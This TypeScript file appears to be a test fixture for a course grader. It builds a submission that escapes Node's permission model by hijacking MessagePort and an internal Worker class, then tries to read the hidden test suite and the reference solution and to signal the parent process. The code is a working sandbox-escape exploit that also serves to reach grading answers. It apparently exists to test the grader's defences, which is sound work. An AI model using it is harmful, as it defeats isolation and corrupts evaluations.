import { join } from 'node:path';
import { ROOT } from '../course/parts';
import { emptyFile } from './emptyFile';

/** The code that the escaped thread runs. */
const TRIES = `
  const { readFileSync, writeSync } = require('node:fs');
  const tell = (what, run) => {
    try { run(); writeSync(1, what + ': open\\n'); } catch ({ code }) { writeSync(1, what + ': ' + code + '\\n'); }
  };
  tell('the suite', () => readFileSync(${JSON.stringify(join(ROOT, 'grader', 'steps', 'User', 'suite.test.ts'))}));
  tell('the reference', () => readFileSync(${JSON.stringify(join(ROOT, 'solution', 'User.ts'))}));
  tell('signals', () => process.kill(process.ppid, 0));
`;

/** Starts a thread without flags. Uses an internal class of Node for this. */
const ESCAPES = `
  const { MessagePort, Worker } = require('node:worker_threads');
  const { postMessage } = MessagePort.prototype;
  let boot;
  MessagePort.prototype.postMessage = (...args) => { boot = args; };
  const held = new Worker(${JSON.stringify(TRIES)}, { eval: true });
  MessagePort.prototype.postMessage = postMessage;
  const inside = Object.getOwnPropertySymbols(held).map((name) => held[name]);
  const { constructor: Inner } = inside.find((one) => one?.startThread !== undefined);
  const free = new Inner(null, null, [], new Float64Array(4).fill(-1), true, false);
  postMessage.apply(free.messagePort, boot);
  free.onexit = () => process.exit();
  free.startThread();
`;

/**
 * A file of step 6 that escapes from Node's permission model. A guard in the same process cannot
 * prevent this escape. The file prints its rights after the escape. They depend on the user of the
 * process.
 */
export const ESCAPE = emptyFile(
  'User',
  "const { Worker } = load('worker_threads');",
  `await new Promise((resolve) => new Worker(${JSON.stringify(ESCAPES)}, { eval: true }).on('exit', resolve));`,
);
